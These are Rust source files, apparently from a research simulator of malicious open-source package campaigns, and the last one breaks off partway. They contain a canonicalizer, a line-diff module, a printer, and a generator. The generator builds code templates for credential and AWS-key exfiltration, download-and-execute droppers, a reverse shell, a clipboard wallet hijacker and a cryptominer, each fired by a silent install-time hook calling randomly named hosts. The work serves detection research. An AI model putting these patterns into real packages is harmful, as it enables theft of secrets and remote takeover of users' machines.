                    module.split('.').next().unwrap_or(module).to_owned()
                });
                // Imported module handles keep their module identity: the
                // canonical name is derived from the *module path*, not
                // the alias, so aliasing does not defeat similarity.
                let canon = format!("m_{}", module.replace('.', "_"));
                self.names.insert(local, canon);
            }
            Stmt::FromImport {
                module,
                name,
                alias,
            } => {
                let local = alias.clone().unwrap_or_else(|| name.clone());
                let canon = format!("m_{}_{}", module.replace('.', "_"), name);
                self.names.insert(local, canon);
            }
            Stmt::Assign { target, .. } => {
                if let Expr::Name(name) = target {
                    self.define_var(name);
                }
            }
            Stmt::FunctionDef { name, params, body } => {
                self.define_fn(name);
                for p in params {
                    self.define_var(p);
                }
                for s in body {
                    self.scan_stmt(s);
                }
            }
            Stmt::If { body, orelse, .. } => {
                for s in body.iter().chain(orelse) {
                    self.scan_stmt(s);
                }
            }
            Stmt::For { var, body, .. } => {
                self.define_var(var);
                for s in body {
                    self.scan_stmt(s);
                }
            }
            Stmt::While { body, .. } => {
                for s in body {
                    self.scan_stmt(s);
                }
            }
            Stmt::Try { body, handler } => {
                for s in body.iter().chain(handler) {
                    self.scan_stmt(s);
                }
            }
            Stmt::Expr(_) | Stmt::Return(_) | Stmt::Raise(_) | Stmt::Pass => {}
        }
    }

    fn rewrite_stmt(&self, stmt: &Stmt) -> Stmt {
        match stmt {
            Stmt::Import { module, alias } => Stmt::Import {
                module: module.clone(),
                alias: alias.as_ref().map(|a| self.rename(a)).or_else(|| {
                    // Force the canonical alias even for plain imports so
                    // `import requests` == `import requests as r`.
                    let local = module.split('.').next().unwrap_or(module);
                    Some(self.rename(local))
                }),
            },
            Stmt::FromImport {
                module,
                name,
                alias,
            } => Stmt::FromImport {
                module: module.clone(),
                name: name.clone(),
                alias: Some(self.rename(alias.as_deref().unwrap_or(name))),
            },
            Stmt::Assign { target, value } => Stmt::Assign {
                target: self.rewrite_expr(target),
                value: self.rewrite_expr(value),
            },
            Stmt::Expr(e) => Stmt::Expr(self.rewrite_expr(e)),
            Stmt::FunctionDef { name, params, body } => Stmt::FunctionDef {
                name: self.rename(name),
                params: params.iter().map(|p| self.rename(p)).collect(),
                body: body.iter().map(|s| self.rewrite_stmt(s)).collect(),
            },
            Stmt::If { cond, body, orelse } => Stmt::If {
                cond: self.rewrite_expr(cond),
                body: body.iter().map(|s| self.rewrite_stmt(s)).collect(),
                orelse: orelse.iter().map(|s| self.rewrite_stmt(s)).collect(),
            },
            Stmt::For { var, iter, body } => Stmt::For {
                var: self.rename(var),
                iter: self.rewrite_expr(iter),
                body: body.iter().map(|s| self.rewrite_stmt(s)).collect(),
            },
            Stmt::While { cond, body } => Stmt::While {
                cond: self.rewrite_expr(cond),
                body: body.iter().map(|s| self.rewrite_stmt(s)).collect(),
            },
            Stmt::Try { body, handler } => Stmt::Try {
                body: body.iter().map(|s| self.rewrite_stmt(s)).collect(),
                handler: handler.iter().map(|s| self.rewrite_stmt(s)).collect(),
            },
            Stmt::Return(v) => Stmt::Return(v.as_ref().map(|e| self.rewrite_expr(e))),
            Stmt::Raise(e) => Stmt::Raise(self.rewrite_expr(e)),
            Stmt::Pass => Stmt::Pass,
        }
    }

    fn rewrite_expr(&self, expr: &Expr) -> Expr {
        match expr {
            Expr::Name(n) => Expr::Name(self.rename(n)),
            Expr::Str(_) | Expr::Int(_) | Expr::Float(_) | Expr::Bool(_) | Expr::NoneLit => {
                expr.clone()
            }
            Expr::Call { callee, args } => Expr::Call {
                callee: Box::new(self.rewrite_expr(callee)),
                args: args.iter().map(|a| self.rewrite_expr(a)).collect(),
            },
            Expr::Attribute { value, attr } => Expr::Attribute {
                value: Box::new(self.rewrite_expr(value)),
                attr: attr.clone(),
            },
            Expr::Index { value, index } => Expr::Index {
                value: Box::new(self.rewrite_expr(value)),
                index: Box::new(self.rewrite_expr(index)),
            },
            Expr::Binary { op, lhs, rhs } => Expr::Binary {
                op: *op,
                lhs: Box::new(self.rewrite_expr(lhs)),
                rhs: Box::new(self.rewrite_expr(rhs)),
            },
            Expr::Unary { op, operand } => Expr::Unary {
                op: *op,
                operand: Box::new(self.rewrite_expr(operand)),
            },
            Expr::List(items) => {
                Expr::List(items.iter().map(|i| self.rewrite_expr(i)).collect())
            }
            Expr::Dict(pairs) => Expr::Dict(
                pairs
                    .iter()
                    .map(|(k, v)| (self.rewrite_expr(k), self.rewrite_expr(v)))
                    .collect(),
            ),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse;
    use crate::printer::print_module;

    fn canon_src(src: &str) -> String {
        print_module(&canonicalize(&parse(src).unwrap()))
    }

    #[test]
    fn renamed_variables_canonicalize_identically() {
        let a = canon_src("token = env('AWS')\nupload(token)\n");
        let b = canon_src("stolen = env('AWS')\nupload(stolen)\n");
        assert_eq!(a, b);
    }

    #[test]
    fn different_structure_stays_different() {
        let a = canon_src("x = 1\n");
        let b = canon_src("x = f(1)\n");
        assert_ne!(a, b);
    }

    #[test]
    fn import_alias_is_normalized() {
        let a = canon_src("import requests\nrequests.post(u)\n");
        let b = canon_src("import requests as r\nr.post(u)\n");
        assert_eq!(a, b);
    }

    #[test]
    fn from_import_alias_is_normalized() {
        let a = canon_src("from subprocess import run\nrun(c)\n");
        let b = canon_src("from subprocess import run as go\ngo(c)\n");
        assert_eq!(a, b);
    }

    #[test]
    fn module_path_is_preserved() {
        // The *behavioural* signal — which module is imported — survives.
        let a = canon_src("import requests\n");
        let b = canon_src("import socket\n");
        assert_ne!(a, b);
        assert!(a.contains("requests"));
    }

    #[test]
    fn attribute_names_survive() {
        let out = canon_src("h = hashlib.sha256(data)\n");
        assert!(out.contains(".sha256("), "{out}");
    }

    #[test]
    fn function_names_and_params_rename_positionally() {
        let a = canon_src("def exfil(data):\n    send(data)\nexfil(x)\n");
        let b = canon_src("def leak(blob):\n    send(blob)\nleak(x)\n");
        assert_eq!(a, b);
    }

    #[test]
    fn forward_references_rename_consistently() {
        let src = "run()\n\ndef run():\n    pass\n";
        let out = canon_src(src);
        // the call and the def must share a name
        let call_line = out.lines().next().unwrap();
        assert!(call_line.starts_with("f0("), "{out}");
        assert!(out.contains("def f0()"), "{out}");
    }

    #[test]
    fn canonicalization_is_idempotent() {
        let src = "import os\n\ndef go(a):\n    k = os.getenv(a)\n    return k\n";
        let once = canonicalize(&parse(src).unwrap());
        let twice = canonicalize(&once);
        assert_eq!(print_module(&once), print_module(&twice));
    }

    #[test]
    fn canonical_output_reparses() {
        let src = "import os\nx = os.environ['HOME']\nfor i in items:\n    go(i, x)\n";
        let out = canon_src(src);
        assert!(parse(&out).is_ok(), "canonical output must be valid: {out}");
    }
}
