//! Line-level diff between two programs.
//!
//! The paper quantifies the CC (changing code) operation by diffing
//! consecutive release attempts and reports "the line of changing code
//! was around 3.7 lines" (§IV-E). This module provides an LCS-based line
//! diff over the canonical printed text.

use crate::ast::Module;
use crate::printer::print_lines;

/// Result of diffing two line sequences.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct DiffStats {
    /// Lines present only in the old version.
    pub removed: usize,
    /// Lines present only in the new version.
    pub added: usize,
    /// Lines common to both (the LCS length).
    pub common: usize,
}

impl DiffStats {
    /// Total changed lines, the paper's "lines of changing code" metric:
    /// `max(added, removed)` counts a replaced line once.
    pub fn changed_lines(&self) -> usize {
        self.added.max(self.removed)
    }

    /// Whether the two inputs are line-identical.
    pub fn is_identical(&self) -> bool {
        self.added == 0 && self.removed == 0
    }
}

/// Diffs two slices of lines using longest-common-subsequence.
///
/// # Examples
///
/// ```
/// use minilang::diff::diff_lines;
///
/// let old = ["a", "b", "c"];
/// let new = ["a", "x", "c"];
/// let stats = diff_lines(&old, &new);
/// assert_eq!(stats.changed_lines(), 1);
/// assert_eq!(stats.common, 2);
/// ```
pub fn diff_lines<S: AsRef<str>>(old: &[S], new: &[S]) -> DiffStats {
    let n = old.len();
    let m = new.len();
    // Trim the common prefix and suffix first. Every line of a common
    // affix belongs to *some* maximum-length common subsequence (matching
    // it can never cost a longer match elsewhere), so
    // `LCS = prefix + LCS(middle) + suffix` — and re-releases within a
    // campaign overwhelmingly share almost all their lines, emptying the
    // middle entirely.
    let mut prefix = 0usize;
    while prefix < n && prefix < m && old[prefix].as_ref() == new[prefix].as_ref() {
        prefix += 1;
    }
    let mut suffix = 0usize;
    while suffix < n - prefix && suffix < m - prefix
        && old[n - 1 - suffix].as_ref() == new[m - 1 - suffix].as_ref()
    {
        suffix += 1;
    }
    let lcs = prefix + suffix + lcs_two_row(&old[prefix..n - suffix], &new[prefix..m - suffix]);
    DiffStats {
        removed: n - lcs,
        added: m - lcs,
        common: lcs,
    }
}

/// LCS length in O(n·m) time and O(min(n, m)) space: the classic
/// two-row DP, keeping only the previous row instead of the full table.
fn lcs_two_row<S: AsRef<str>>(old: &[S], new: &[S]) -> usize {
    // Roll over the shorter side to bound the rows at min(n, m) + 1.
    let (short, long) = if old.len() <= new.len() { (old, new) } else { (new, old) };
    if short.is_empty() {
        return 0;
    }
    let mut prev = vec![0usize; short.len() + 1];
    let mut cur = vec![0usize; short.len() + 1];
    for row in long {
        for (j, col) in short.iter().enumerate() {
            cur[j + 1] = if row.as_ref() == col.as_ref() {
                prev[j] + 1
            } else {
                prev[j + 1].max(cur[j])
            };
        }
        std::mem::swap(&mut prev, &mut cur);
    }
    prev[short.len()]
}

/// The original full-table LCS diff, kept as the oracle the trimmed
/// two-row implementation is property-tested against.
#[cfg(test)]
fn diff_lines_reference<S: AsRef<str>>(old: &[S], new: &[S]) -> DiffStats {
    let n = old.len();
    let m = new.len();
    let mut table = vec![0usize; (n + 1) * (m + 1)];
    let idx = |i: usize, j: usize| i * (m + 1) + j;
    for i in (0..n).rev() {
        for j in (0..m).rev() {
            table[idx(i, j)] = if old[i].as_ref() == new[j].as_ref() {
                table[idx(i + 1, j + 1)] + 1
            } else {
                table[idx(i + 1, j)].max(table[idx(i, j + 1)])
            };
        }
    }
    let lcs = table[idx(0, 0)];
    DiffStats {
        removed: n - lcs,
        added: m - lcs,
        common: lcs,
    }
}

/// Diffs the canonical printed text of two modules.
pub fn line_diff(old: &Module, new: &Module) -> DiffStats {
    diff_lines(&print_lines(old), &print_lines(new))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse;

    #[test]
    fn identical_modules_have_zero_diff() {
        let a = parse("x = 1\ny = 2\n").unwrap();
        let stats = line_diff(&a, &a);
        assert!(stats.is_identical());
        assert_eq!(stats.common, 2);
    }

    #[test]
    fn single_line_replacement_counts_once() {
        let a = parse("x = 1\ny = 2\nz = 3\n").unwrap();
        let b = parse("x = 1\ny = 9\nz = 3\n").unwrap();
        let stats = line_diff(&a, &b);
        assert_eq!(stats.changed_lines(), 1);
        assert_eq!(stats.removed, 1);
        assert_eq!(stats.added, 1);
    }

    #[test]
    fn pure_insertion() {
        let a = parse("x = 1\n").unwrap();
        let b = parse("x = 1\ny = 2\nz = 3\n").unwrap();
        let stats = line_diff(&a, &b);
        assert_eq!(stats.added, 2);
        assert_eq!(stats.removed, 0);
        assert_eq!(stats.changed_lines(), 2);
    }

    #[test]
    fn pure_deletion() {
        let a = parse("x = 1\ny = 2\n").unwrap();
        let b = parse("y = 2\n").unwrap();
        let stats = line_diff(&a, &b);
        assert_eq!(stats.removed, 1);
        assert_eq!(stats.added, 0);
    }

    #[test]
    fn disjoint_programs() {
        let a = parse("a = 1\n").unwrap();
        let b = parse("b = 2\n").unwrap();
        let stats = line_diff(&a, &b);
        assert_eq!(stats.common, 0);
        assert_eq!(stats.changed_lines(), 1);
    }

    #[test]
    fn empty_vs_empty() {
        let stats = diff_lines::<&str>(&[], &[]);
        assert!(stats.is_identical());
        assert_eq!(stats.common, 0);
    }

    #[test]
    fn diff_is_symmetric_in_changed_lines() {
        let a = parse("x = 1\ny = 2\nz = 3\n").unwrap();
        let b = parse("x = 1\nw = 8\n").unwrap();
        let ab = line_diff(&a, &b);
        let ba = line_diff(&b, &a);
        assert_eq!(ab.common, ba.common);
        assert_eq!(ab.added, ba.removed);
        assert_eq!(ab.changed_lines(), ba.changed_lines());
    }

    #[test]
    fn trimmed_two_row_matches_full_table_on_edge_shapes() {
        let cases: &[(&[&str], &[&str])] = &[
            (&[], &[]),
            (&[], &["a"]),
            (&["a"], &[]),
            (&["a", "b", "c"], &["a", "b", "c"]),
            (&["a", "b", "c"], &["c", "b", "a"]),
            (&["p", "x", "s"], &["p", "y", "s"]),
            (&["p", "p", "s", "s"], &["p", "s"]),
            (&["a", "a", "a"], &["a", "a"]),
        ];
        for (old, new) in cases {
            assert_eq!(
                diff_lines(old, new),
                diff_lines_reference(old, new),
                "old {old:?} new {new:?}"
            );
        }
    }

    mod properties {
        use super::super::*;
        use proptest::prelude::*;

        /// Small alphabet so generated sequences collide often — the
        /// regime where prefix/suffix trimming and mid-sequence matching
        /// interact.
        fn arb_lines() -> impl Strategy<Value = Vec<String>> {
            proptest::collection::vec("[abc]", 0..24)
        }

        proptest! {
            #[test]
            fn two_row_diff_equals_full_table(old in arb_lines(), new in arb_lines()) {
                prop_assert_eq!(diff_lines(&old, &new), diff_lines_reference(&old, &new));
            }

            #[test]
            fn diff_bounds_hold(old in arb_lines(), new in arb_lines()) {
                let stats = diff_lines(&old, &new);
                prop_assert_eq!(stats.removed + stats.common, old.len());
                prop_assert_eq!(stats.added + stats.common, new.len());
            }
        }
    }
}
