//! Canonical pretty-printer: `parse ∘ print_module = id`.
//!
//! The printer defines the *canonical text* of a program. Package
//! signatures (`Sha256`-style hashes in `registry-sim`) and
//! line diffs (`diff`) both operate on this canonical text, mirroring how
//! the paper hashes and diffs the files inside a package archive.

use crate::ast::{BinOp, Expr, Module, Stmt, UnaryOp};
use std::fmt::Write as _;

const INDENT: &str = "    ";

/// Renders a module as canonical source text.
///
/// Top-level function definitions are separated by a blank line, matching
/// the style of the generator; the output always ends with a newline
/// unless the module is empty.
///
/// # Examples
///
/// ```
/// use minilang::{parse, printer::print_module};
///
/// let m = parse("x = 1\n")?;
/// assert_eq!(print_module(&m), "x = 1\n");
/// # Ok::<(), minilang::ParseErr>(())
/// ```
pub fn print_module(module: &Module) -> String {
    let mut out = String::new();
    let mut prev_was_def = false;
    for (i, stmt) in module.body.iter().enumerate() {
        let is_def = matches!(stmt, Stmt::FunctionDef { .. });
        if i > 0 && (is_def || prev_was_def) {
            out.push('\n');
        }
        print_stmt(stmt, 0, &mut out);
        prev_was_def = is_def;
    }
    out
}

/// Renders a module and returns its lines, the unit of [`crate::diff`].
pub fn print_lines(module: &Module) -> Vec<String> {
    print_module(module)
        .lines()
        .map(str::to_owned)
        .collect()
}

fn print_stmt(stmt: &Stmt, depth: usize, out: &mut String) {
    let pad = INDENT.repeat(depth);
    match stmt {
        Stmt::Import { module, alias } => {
            let _ = write!(out, "{pad}import {module}");
            if let Some(alias) = alias {
                let _ = write!(out, " as {alias}");
            }
            out.push('\n');
        }
        Stmt::FromImport {
            module,
            name,
            alias,
        } => {
            let _ = write!(out, "{pad}from {module} import {name}");
            if let Some(alias) = alias {
                let _ = write!(out, " as {alias}");
            }
            out.push('\n');
        }
        Stmt::Assign { target, value } => {
            let _ = writeln!(out, "{pad}{} = {}", print_expr(target), print_expr(value));
        }
        Stmt::Expr(expr) => {
            let _ = writeln!(out, "{pad}{}", print_expr(expr));
        }
        Stmt::FunctionDef { name, params, body } => {
            let _ = writeln!(out, "{pad}def {name}({}):", params.join(", "));
            for s in body {
                print_stmt(s, depth + 1, out);
            }
        }
        Stmt::If { cond, body, orelse } => {
            let _ = writeln!(out, "{pad}if {}:", print_expr(cond));
            for s in body {
                print_stmt(s, depth + 1, out);
            }
            if !orelse.is_empty() {
                let _ = writeln!(out, "{pad}else:");
                for s in orelse {
                    print_stmt(s, depth + 1, out);
                }
            }
        }
        Stmt::For { var, iter, body } => {
            let _ = writeln!(out, "{pad}for {var} in {}:", print_expr(iter));
            for s in body {
                print_stmt(s, depth + 1, out);
            }
        }
        Stmt::While { cond, body } => {
            let _ = writeln!(out, "{pad}while {}:", print_expr(cond));
            for s in body {
                print_stmt(s, depth + 1, out);
            }
        }
        Stmt::Try { body, handler } => {
            let _ = writeln!(out, "{pad}try:");
            for s in body {
                print_stmt(s, depth + 1, out);
            }
            let _ = writeln!(out, "{pad}except:");
            for s in handler {
                print_stmt(s, depth + 1, out);
            }
        }
        Stmt::Return(None) => {
            let _ = writeln!(out, "{pad}return");
        }
        Stmt::Return(Some(value)) => {
            let _ = writeln!(out, "{pad}return {}", print_expr(value));
        }
        Stmt::Raise(value) => {
            let _ = writeln!(out, "{pad}raise {}", print_expr(value));
        }
        Stmt::Pass => {
            let _ = writeln!(out, "{pad}pass");
        }
    }
}

/// Renders a single expression.
pub fn print_expr(expr: &Expr) -> String {
    print_prec(expr, 0)
}

/// Prints `expr`, parenthesizing if its top-level operator binds looser
/// than `min_prec`.
fn print_prec(expr: &Expr, min_prec: u8) -> String {
    match expr {
        Expr::Name(n) => n.clone(),
        Expr::Str(s) => quote(s),
        Expr::Int(v) => v.to_string(),
        Expr::Float(v) => {
            let s = v.to_string();
            if s.contains('.') || s.contains('e') {
                s
            } else {
                format!("{s}.0")
            }
        }
        Expr::Bool(true) => "True".into(),
        Expr::Bool(false) => "False".into(),
        Expr::NoneLit => "None".into(),
        Expr::Call { callee, args } => {
            let args: Vec<String> = args.iter().map(|a| print_prec(a, 0)).collect();
            format!("{}({})", print_prec(callee, 7), args.join(", "))
        }
        Expr::Attribute { value, attr } => {
            format!("{}.{attr}", print_prec(value, 7))
        }
        Expr::Index { value, index } => {
            format!("{}[{}]", print_prec(value, 7), print_prec(index, 0))
        }
        Expr::Binary { op, lhs, rhs } => {
            let prec = op.precedence();
            // Left-associative operators need rhs at prec+1; `**` is
            // right-associative and needs lhs at prec+1 instead.
            let (lmin, rmin) = if *op == BinOp::Pow {
                (prec + 1, prec)
            } else {
                (prec, prec + 1)
            };
            let text = format!(
                "{} {} {}",
                print_prec(lhs, lmin),
                op.symbol(),
                print_prec(rhs, rmin)
            );
            if prec < min_prec {
                format!("({text})")
            } else {
                text
            }
        }
        Expr::Unary { op, operand } => {
            let text = match op {
                UnaryOp::Neg => format!("-{}", print_prec(operand, 7)),
                UnaryOp::Not => format!("not {}", print_prec(operand, 3)),
            };
            // `not` sits between comparisons and `and`.
            let prec = match op {
                UnaryOp::Neg => 7,
                UnaryOp::Not => 2,
            };
            if prec < min_prec {
                format!("({text})")
            } else {
                text
            }
        }
        Expr::List(items) => {
            let items: Vec<String> = items.iter().map(|i| print_prec(i, 0)).collect();
            format!("[{}]", items.join(", "))
        }
        Expr::Dict(pairs) => {
            let pairs: Vec<String> = pairs
                .iter()
                .map(|(k, v)| format!("{}: {}", print_prec(k, 0), print_prec(v, 0)))
                .collect();
            format!("{{{}}}", pairs.join(", "))
        }
    }
}

fn quote(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        match c {
            '\'' => out.push_str("\\'"),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            other => out.push(other),
        }
    }
    out.push('\'');
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse;

    fn round_trip(src: &str) {
        let m = parse(src).unwrap_or_else(|e| panic!("parse failed: {e}\n{src}"));
        let printed = print_module(&m);
        let m2 = parse(&printed).unwrap_or_else(|e| panic!("reparse failed: {e}\n{printed}"));
        assert_eq!(m, m2, "print/reparse changed the AST\n{printed}");
    }

    #[test]
    fn print_is_fixed_point() {
        let src = "import os\n\ndef run(a, b):\n    x = a + b * 2\n    if x > 3:\n        return x\n    return None\n";
        let m = parse(src).unwrap();
        assert_eq!(print_module(&m), src);
    }

    #[test]
    fn round_trips() {
        for src in [
            "x = 1\n",
            "x = -y ** 2\n",
            "x = (a + b) * c\n",
            "z = a or b and not c\n",
            "v = items[0].field('k')[1]\n",
            "d = {'a': 1, 'b': [2, 3]}\n",
            "try:\n    go()\nexcept:\n    pass\n",
            "for i in seq:\n    go(i)\n",
            "while not done:\n    step()\n",
            "s = 'quote \\' and \\\\ and \\n'\n",
            "import a.b.c as abc\nfrom x.y import z as w\n",
            "f = 2.5\n",
        ] {
            round_trip(src);
        }
    }

    #[test]
    fn parenthesization_preserves_shape() {
        // (a + b) * c must keep its parens; a + b * c must not gain any.
        let grouped = parse("x = (a + b) * c\n").unwrap();
        assert_eq!(print_module(&grouped), "x = (a + b) * c\n");
        let plain = parse("x = a + b * c\n").unwrap();
        assert_eq!(print_module(&plain), "x = a + b * c\n");
    }

    #[test]
    fn right_associative_pow() {
        let m = parse("x = a ** b ** c\n").unwrap();
        assert_eq!(print_module(&m), "x = a ** b ** c\n");
        let m = parse("x = (a ** b) ** c\n").unwrap();
        assert_eq!(print_module(&m), "x = (a ** b) ** c\n");
    }

    #[test]
    fn float_always_prints_with_point() {
        let m = parse("x = 2.0\n").unwrap();
        assert_eq!(print_module(&m), "x = 2.0\n");
    }

    #[test]
    fn defs_get_blank_line_separation() {
        let src = "def a():\n    pass\n\ndef b():\n    pass\n";
        let m = parse(src).unwrap();
        assert_eq!(print_module(&m), src);
    }

    #[test]
    fn print_lines_splits() {
        let m = parse("x = 1\ny = 2\n").unwrap();
        assert_eq!(print_lines(&m), vec!["x = 1", "y = 2"]);
    }
}
