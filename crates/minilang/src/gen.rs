//! Malicious (and benign) package code generation.
//!
//! Attack campaigns in the corpus reuse a small number of behaviour
//! families — credential exfiltration, download-and-execute droppers,
//! reverse shells, clipboard hijackers, cryptominers… (paper §I, §IV-C).
//! The simulator needs *actual source code* with those behaviours so the
//! similarity pipeline (AST → embedding → K-Means) and the CC diff metric
//! operate on real inputs. This module generates such code from nine
//! behaviour templates, plus benign filler, plus the small *mutation
//! operators* an attacker applies between release attempts (the paper
//! measured ≈3.7 changed lines per CC operation).

use crate::ast::{BinOp, Expr, Module, Stmt};
use rand::seq::SliceRandom;
use rand::Rng;

/// A malicious behaviour family.
///
/// These correspond to the behaviours the paper's introduction lists
/// (backdoors, sensitive-data theft, payload download, cryptominers) plus
/// the common families in the referenced report corpus.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Behavior {
    /// Steal environment variables and POST them to a collector.
    ExfilEnv,
    /// Extract AWS credentials/token files (the "Fallguys"/pygrata style).
    ExfilAws,
    /// Download a second-stage payload and execute it.
    DownloadExecute,
    /// Open a reverse shell to a hard-coded host.
    ReverseShell,
    /// Replace cryptocurrency addresses on the clipboard.
    ClipboardHijack,
    /// Spawn a cryptominer.
    CryptoMiner,
    /// Harvest browser/gaming credentials ("Fallguys" infostealer).
    InfoStealer,
    /// Install a persistent backdoor (the bootstrap-sass style).
    Backdoor,
    /// Beacon host fingerprints over DNS (dependency-confusion probes).
    DnsBeacon,
}

impl Behavior {
    /// All nine behaviour families.
    pub const ALL: [Behavior; 9] = [
        Behavior::ExfilEnv,
        Behavior::ExfilAws,
        Behavior::DownloadExecute,
        Behavior::ReverseShell,
        Behavior::ClipboardHijack,
        Behavior::CryptoMiner,
        Behavior::InfoStealer,
        Behavior::Backdoor,
        Behavior::DnsBeacon,
    ];

    /// Stable snake_case label.
    pub fn label(self) -> &'static str {
        match self {
            Behavior::ExfilEnv => "exfil_env",
            Behavior::ExfilAws => "exfil_aws",
            Behavior::DownloadExecute => "download_execute",
            Behavior::ReverseShell => "reverse_shell",
            Behavior::ClipboardHijack => "clipboard_hijack",
            Behavior::CryptoMiner => "cryptominer",
            Behavior::InfoStealer => "infostealer",
            Behavior::Backdoor => "backdoor",
            Behavior::DnsBeacon => "dns_beacon",
        }
    }
}

impl std::fmt::Display for Behavior {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.label())
    }
}

fn rand_host(rng: &mut impl Rng) -> String {
    const WORDS: [&str; 12] = [
        "cdn", "stats", "api", "update", "mirror", "files", "pkg", "sync", "node", "assets",
        "logs", "beacon",
    ];
    const TLDS: [&str; 5] = ["xyz", "top", "site", "info", "live"];
    format!(
        "{}-{}{}.{}",
        WORDS.choose(rng).expect("non-empty"),
        WORDS.choose(rng).expect("non-empty"),
        rng.gen_range(0..100),
        TLDS.choose(rng).expect("non-empty"),
    )
}

fn rand_ident(rng: &mut impl Rng, prefix: &str) -> String {
    format!("{prefix}{}", rng.gen_range(0..10_000))
}

/// Generates a module carrying `behavior`, seasoned with benign filler.
///
/// The output always contains: the behaviour's import header, a payload
/// function, `0..=2` benign filler functions, and an install-time hook
/// that invokes the payload inside `try/except` (install-time attacks are
/// the dominant trigger in the OSS corpus).
pub fn generate(behavior: Behavior, rng: &mut impl Rng) -> Module {
    let mut body = Vec::new();
    let payload_name = rand_ident(rng, "task_");
    let (imports, payload) = payload_for(behavior, &payload_name, rng);
    body.extend(imports);
    let n_filler = rng.gen_range(0..=1);
    for _ in 0..n_filler {
        body.push(benign_function(rng));
    }
    // Every lineage gets 1–2 structurally random functions: real campaign
    // code bases differ in shape, not just in literals, and the
    // similarity pipeline must separate campaigns that share a behaviour
    // family.
    for _ in 0..rng.gen_range(2..=3) {
        body.push(junk_function(rng));
    }
    body.push(payload);
    // Install-time hook: silent on failure.
    body.push(Stmt::Try {
        body: vec![Stmt::Expr(Expr::call(Expr::name(&payload_name), vec![]))],
        handler: vec![Stmt::Pass],
    });
    Module::new(body)
}

/// Generates a fully benign module (utility-library style). Used for the
/// innocent-looking front package of a dependency attack (paper Fig. 7)
/// and the initial trojan releases of Table VIII campaigns.
pub fn generate_benign(rng: &mut impl Rng) -> Module {
    let mut body = Vec::new();
    let n = rng.gen_range(1..=2);
    for _ in 0..n {
        body.push(benign_function(rng));
    }
    // Benign code bases differ structurally across authors too.
    for _ in 0..rng.gen_range(2..=3) {
        body.push(junk_function(rng));
    }
    Module::new(body)
}

fn payload_for(behavior: Behavior, name: &str, rng: &mut impl Rng) -> (Vec<Stmt>, Stmt) {
    let host = rand_host(rng);
    let url = format!("http://{host}/u/{}", rng.gen_range(100..999));
    match behavior {
        Behavior::ExfilEnv => (
            vec![import("os"), import("requests")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("data", Expr::mcall("os", "environ", vec![])),
                    Stmt::Expr(Expr::mcall(
                        "requests",
                        "post",
                        vec![Expr::str(url), Expr::name("data")],
                    )),
                    Stmt::Return(Some(Expr::Bool(true))),
                ],
            ),
        ),
        Behavior::ExfilAws => (
            vec![import("os"), import("requests")],
            fn_def(
                name,
                vec![],
                vec![
                    assign(
                        "key",
                        Expr::mcall("os", "getenv", vec![Expr::str("AWS_ACCESS_KEY_ID")]),
                    ),
                    assign(
                        "secret",
                        Expr::mcall("os", "getenv", vec![Expr::str("AWS_SECRET_ACCESS_KEY")]),
                    ),
                    Stmt::If {
                        cond: Expr::Binary {
                            op: BinOp::And,
                            lhs: Box::new(Expr::name("key")),
                            rhs: Box::new(Expr::name("secret")),
                        },
                        body: vec![Stmt::Expr(Expr::mcall(
                            "requests",
                            "post",
                            vec![
                                Expr::str(url),
                                Expr::Dict(vec![
                                    (Expr::str("k"), Expr::name("key")),
                                    (Expr::str("s"), Expr::name("secret")),
                                ]),
                            ],
                        ))],
                        orelse: vec![],
                    },
                ],
            ),
        ),
        Behavior::DownloadExecute => (
            vec![import("requests"), import("subprocess"), import("os")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("blob", Expr::mcall("requests", "get", vec![Expr::str(url)])),
                    assign("path", Expr::str(format!("/tmp/.{}", rand_ident(rng, "x")))),
                    Stmt::Expr(Expr::mcall(
                        "os",
                        "write_file",
                        vec![Expr::name("path"), Expr::attr(Expr::name("blob"), "content")],
                    )),
                    Stmt::Expr(Expr::mcall("subprocess", "run", vec![Expr::name("path")])),
                ],
            ),
        ),
        Behavior::ReverseShell => (
            vec![import("socket"), import("subprocess")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("sock", Expr::mcall("socket", "socket", vec![])),
                    Stmt::Expr(Expr::call(
                        Expr::attr(Expr::name("sock"), "connect"),
                        vec![Expr::str(host.clone()), Expr::Int(rng.gen_range(1024..65535))],
                    )),
                    Stmt::While {
                        cond: Expr::Bool(true),
                        body: vec![
                            assign(
                                "cmd",
                                Expr::call(Expr::attr(Expr::name("sock"), "recv"), vec![Expr::Int(1024)]),
                            ),
                            Stmt::Expr(Expr::mcall("subprocess", "run", vec![Expr::name("cmd")])),
                        ],
                    },
                ],
            ),
        ),
        Behavior::ClipboardHijack => (
            vec![import("clipboard"), import("re")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("wallet", Expr::str(format!("1Hijack{}", rng.gen_range(1000..9999)))),
                    Stmt::While {
                        cond: Expr::Bool(true),
                        body: vec![
                            assign("text", Expr::mcall("clipboard", "paste", vec![])),
                            Stmt::If {
                                cond: Expr::mcall(
                                    "re",
                                    "match",
                                    vec![Expr::str("^1[A-Za-z0-9]{25}"), Expr::name("text")],
                                ),
                                body: vec![Stmt::Expr(Expr::mcall(
                                    "clipboard",
                                    "copy",
                                    vec![Expr::name("wallet")],
                                ))],
                                orelse: vec![],
                            },
                        ],
                    },
                ],
            ),
        ),
        Behavior::CryptoMiner => (
            vec![import("subprocess"), import("requests")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("miner", Expr::mcall("requests", "get", vec![Expr::str(url)])),
                    assign("pool", Expr::str(format!("stratum://{host}:3333"))),
                    Stmt::Expr(Expr::mcall(
                        "subprocess",
                        "run",
                        vec![
                            Expr::attr(Expr::name("miner"), "content"),
                            Expr::name("pool"),
                        ],
                    )),
                ],
            ),
        ),
        Behavior::InfoStealer => (
            vec![import("os"), import("glob"), import("requests")],
            fn_def(
                name,
                vec![],
                vec![
                    assign(
                        "paths",
                        Expr::mcall(
